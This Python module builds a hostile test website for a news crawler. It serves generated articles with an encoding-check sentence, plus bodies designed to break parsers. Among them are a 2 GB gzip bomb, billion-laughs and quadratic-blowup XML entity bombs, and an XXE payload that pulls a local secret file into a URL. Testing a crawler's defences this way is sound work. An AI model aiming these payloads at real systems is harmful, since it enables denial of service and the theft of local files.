"""What the hostile test site serves: real articles, and bodies meant to hurt a crawler.

Pure builders, no sockets. Articles are prose from the demo site's story generator (each
one distinct, so no dedupe rule folds them), each carrying its own :func:`mark`, a sentence
full of characters that show any wrong decoding as mojibake.
"""

from __future__ import annotations

import json
import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from pathlib import Path

from newsbot.demo.storygen import generate_story

FIXTURES = Path(__file__).parent / "fixtures"
MARK = "“Ça coûte 5 €,” said Zoë Brontë — naïve, perhaps, but the façade held."


def mark(key: int) -> str:
    """:data:`MARK` made the article's own, so no rule takes it for text every page repeats."""
    return MARK.replace("5 €", f"{key + 4} €").replace("façade", f"façade of block {key}")
MOJIBAKE = ("Ã", "â€", "Â", "\ufffd", "Å“", "Ã©")
SEED = "hostile"
SECRET = "hostile-secret-8d1f"  # what an XXE entity would leak into a URL


@dataclass(frozen=True)
class HostileArticle:
    """A real article of the hostile site, served at ``path`` in some hostile way."""

    key: int
    path: str
    title: str
    blocks: tuple[str, ...]

    @property
    def mark(self) -> str:
        return mark(self.key)


def make_article(key: int, path: str, title: str | None = None) -> HostileArticle:
    story = generate_story(key + 5000, "World", SEED)
    blocks = tuple(b for b, kind in zip(story.blocks, story.kinds) if kind == "p")[:5]
    return HostileArticle(key, path, title or f"{story.title} – “naïve” façade",
                          (*blocks[:2], mark(key), *blocks[2:]))


def article_html(article: HostileArticle, base: str, *, meta_charset: str | None = "utf-8",
                 jsonld_title: str | None = None, lang: str = "en") -> str:
    """A plain news article page: JSON-LD NewsArticle, OpenGraph, one ``<article>``."""
    ld = {"@context": "https://schema.org", "@type": "NewsArticle",
          "headline": jsonld_title if jsonld_title is not None else article.title,
          "datePublished": "2026-11-10T08:00:00+00:00",
          "author": {"@type": "Person", "name": "Ada Example"}}
    meta = f'<meta charset="{meta_charset}">' if meta_charset else ""
    paragraphs = "\n".join(f"<p>{escape(block)}</p>" for block in article.blocks)
    return (
        f'<!DOCTYPE html><html lang="{lang}"><head>{meta}<title>{escape(article.title)} – The Hostile Times</title>'
        f'<link rel="canonical" href="{escape(base + article.path)}">'
        f'<meta property="og:type" content="article"><meta property="og:title" content="{escape(article.title)}">'
        f'<script type="application/ld+json">{json.dumps(ld)}</script></head>'
        f'<body><header><a href="{base}/">The Hostile Times</a></header><main><article>'
        f'<h1>{escape(article.title)}</h1><p class="byline">By Ada Example, 10 November 2026</p>\n'
        f"{paragraphs}\n</article></main><footer><p>© The Hostile Times</p></footer></body></html>"
    )


# --- bombs -----------------------------------------------------------------------------

class GzipBomb:
    """A gzip stream of ``size`` bytes of HTML-ish whitespace, built from one repeated block.

    Deflate blocks after a full flush do not depend on what came before, so the stream is
    the header, ``size`` MiB of one 1 KB block, and the trailer: the server holds 2 KB, not
    the 2 MB body nor, of course, the 2 GB it expands to.
    """

    CHUNK = 1 << 20
    PREFIX = b"<!DOCTYPE html><html><head><title>Bomb</title></head><body>"

    def __init__(self, size: int = 2 << 30) -> None:
        self.chunks = size // self.CHUNK
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        spaces = b" " * self.CHUNK
        self.head = compressor.compress(self.PREFIX + spaces) + compressor.flush(zlib.Z_FULL_FLUSH)
        self.unit = compressor.compress(spaces) + compressor.flush(zlib.Z_FULL_FLUSH)
        self._crc: int | None = None

    @property
    def expanded_size(self) -> int:
        return len(self.PREFIX) + self.chunks * self.CHUNK

    def __len__(self) -> int:
        return 10 + len(self.head) + (self.chunks - 1) * len(self.unit) + 2 + 8

    def _trailer(self) -> bytes:
        if self._crc is None:
            crc, spaces = zlib.crc32(self.PREFIX), b" " * self.CHUNK
            for _ in range(self.chunks):
                crc = zlib.crc32(spaces, crc)
            self._crc = crc
        return struct.pack("<II", self._crc, self.expanded_size & 0xFFFFFFFF)

    def stream(self) -> Iterator[bytes]:
        yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + self.head
        for _ in range(self.chunks - 1):
            yield self.unit
        yield b"\x03\x00" + self._trailer()


def billion_laughs(root: str) -> bytes:
    """The classic exponential entity bomb, inside a feed or sitemap root element."""
    entities = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">\n' for i in range(2, 10))
    body = ("<channel><title>Laughs</title><item><title>&lol9;</title><link>http://example.invalid/</link></item></channel>"
            if root == "rss" else "<url><loc>&lol9;</loc></url>")
    return (f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n<!ENTITY lol1 "lol">\n{entities}]>\n'
            f"<{root}>{body}</{root}>").encode()


def quadratic_blowup(root: str, base: str, refs: int = 20000, size: int = 100_000) -> bytes:
    """One 100 kB entity referenced 20,000 times: 2 GB if ever expanded."""
    big = "A" * size
    refs_text = "&a;" * refs
    body = (f"<channel><item><title>{refs_text}</title><link>{base}/blowup/&a;/</link></item></channel>"
            if root == "rss" else f"<url><loc>{base}/blowup/{refs_text}/</loc></url>")
    return f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY a "{big}">]><{root}>{body}</{root}>'.encode()


def xxe(root: str, base: str, secret_file: Path) -> bytes:
    """An external entity naming a local file: expanding it would put the file in a URL."""
    link = f"{base}/leak/&xxe;/"
    body = (f"<channel><item><title>Leak</title><link>{link}</link></item></channel>"
            if root == "rss" else f"<url><loc>{link}</loc></url>")
    return (f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{secret_file}">]>'
            f"<{root}>{body}</{root}>").encode()


# --- not HTML, though labelled so ---------------------------------------------------------

def binary_bodies() -> dict[str, bytes]:
    """Bodies a server may send as ``text/html``: a PDF, a PNG, random bytes."""
    rng = random.Random(SEED)
    png = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00"
           + bytes(rng.randrange(256) for _ in range(3000)))
    pdf = (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\nstream\n"
           + bytes(rng.randrange(256) for _ in range(5000)) + b"\nendstream\n%%EOF\n")
    noise = bytes(rng.randrange(256) for _ in range(20000))
    return {"report": pdf, "photo": png, "noise": noise}


def wall_pages() -> dict[str, str]:
    """A bot challenge, a consent wall and an "Access denied" page, from the test fixtures."""
    folder = FIXTURES / "interstitials"
    return {name: (folder / f"{file}.html").read_text(encoding="utf-8")
            for name, file in (("challenge", "cloudflare_just_a_moment"), ("consent", "consent_before_you_continue"),
                               ("denied", "akamai_access_denied"))}


def nested(html: str, depth: int) -> str:
    """The page with its article wrapped in ``depth`` nested ``<div>``s."""
    return html.replace("<article>", "<div>" * depth + "<article>", 1).replace(
        "</article>", "</article>" + "</div>" * depth, 1)


def with_nuls(html: str) -> str:
    """NUL bytes after every sentence of the page."""
    return html.replace(". ", ".\x00 ").replace("</p>", "\x00</p>")
